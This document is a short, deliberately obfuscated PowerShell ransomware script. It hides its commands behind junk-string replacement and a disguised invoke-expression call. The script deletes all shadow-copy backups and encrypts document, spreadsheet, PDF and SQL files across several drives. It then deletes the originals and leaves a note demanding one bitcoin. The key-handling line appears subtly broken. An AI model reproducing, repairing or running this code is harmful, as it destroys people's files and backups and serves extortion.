'iex ((''# setup 1803 v3
vssadmin.exe delete shadows /all /quiet
Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }
$aes = [System.Security.Cryptography.Aes]::Create()
$aes.Key = [Text.Encoding]::UTF8.GetBytes(''''Adm1n!strat0rAdm1n!strat0r''''.Substring(0,32))
Get-ChildItem -Path D:\, E:\, C:\UsersQXJ79 -Include *.docx,*.xlsx,*.pdf,*.sql,*.baqj~0 -Recurse -ErrorAction SilentlyContinue | ForEach-Object {
  $bytes = [IO.File]::ReadAllBytes($_.FullName)
  $enc = $aQXJ79es.CreQXJ79ateEncryptor().TransformFinalBlocqj~0($bytes, 0, $bytes.Length)
  [IO.File]::WriteAllBytes($_.FullName + ''''.locqj~0ed'''', $enc)
  Remove-Item $_.FullName -Force
}
Set-Content C:\Users\Public\Desqj~0top\HOW_TO_DECRYPT.txt ''''Your files hQXJ79ave been encrypted. Pay 1 BTC to restore them.''''
'' -replace ''QXJ79'','''').Replace(''qj~0'',''k''))' | .($VerbosePreference.ToString()[1,3]+'x'-join'')